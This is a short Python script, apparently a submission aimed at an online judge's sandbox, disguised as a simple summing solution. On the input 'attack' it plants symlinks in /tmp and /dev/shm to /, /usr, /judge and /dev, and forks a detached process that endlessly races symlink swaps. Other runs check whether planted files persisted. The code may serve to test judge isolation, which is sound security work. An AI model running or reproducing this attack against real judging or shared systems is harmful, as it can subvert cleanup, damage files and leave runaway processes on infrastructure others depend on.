import os


def seen():
    return os.listdir("/tmp") + os.listdir("/dev/shm") or not os.path.exists(os.__file__)


def attack():
    for number, target in enumerate(("/", "/usr", "/judge", "/dev", "/dev/shm", "/tmp", "..", os.__file__)):
        os.symlink(target, f"/tmp/link{number}")
        os.symlink(target, f"/dev/shm/link{number}")
    os.mkdir("/tmp/swapped")
    if os.fork() == 0:
        os.setsid()
        while True:
            os.rename("/tmp/swapped", "/tmp/away")
            os.symlink("/usr", "/tmp/swapped")
            os.unlink("/tmp/swapped")
            os.rename("/tmp/away", "/tmp/swapped")
    print("linked")


words = input().split()
if words == ["attack"]:
    attack()
elif seen():
    print("seen", seen())
else:
    print(sum(map(int, words[1:])))
